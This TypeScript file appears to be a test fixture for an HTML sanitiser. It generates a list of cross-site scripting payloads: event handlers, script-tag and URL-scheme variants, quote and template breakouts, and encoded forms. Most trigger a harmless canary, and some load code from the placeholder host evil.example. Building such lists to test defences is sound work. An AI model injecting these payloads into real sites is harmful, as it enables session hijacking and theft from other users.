/** Sets the canary when any part of it runs. */
const run = 'window.canary=1'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'marquee',
  'object data=x',
]

const attributes = tags.flatMap(tag => handlers.map(handler => `<${tag} ${handler}=${run}>`))

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `--><script>${run}</script>`,
  `<!--<img src="--><img src=x onerror=${run}>">`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></table><mglyph><style><img src=x onerror=${run}>`,
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `[x](javascript:${run})`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
]

const breakouts = [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" onfocus=${run} autofocus "`,
  `' onfocus=${run} autofocus '`,
  `\`-${run}-\``,
  `';${run}//`,
  `";${run}//`,
  `\\";${run}//`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{{7*7}}$t(shell:brand){{- x}}`,
  `$t(brand)`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  `\u003cimg src=x onerror=${run}\u003e`,
  `<img src=x onerror=${run}//`,
]

/** XSS-1: what attackers write into fields that others read. */
export const payloads: readonly string[] = [...attributes, ...scripts, ...addresses, ...breakouts].map(payload =>
  payload.replaceAll('\t', ' '),
)
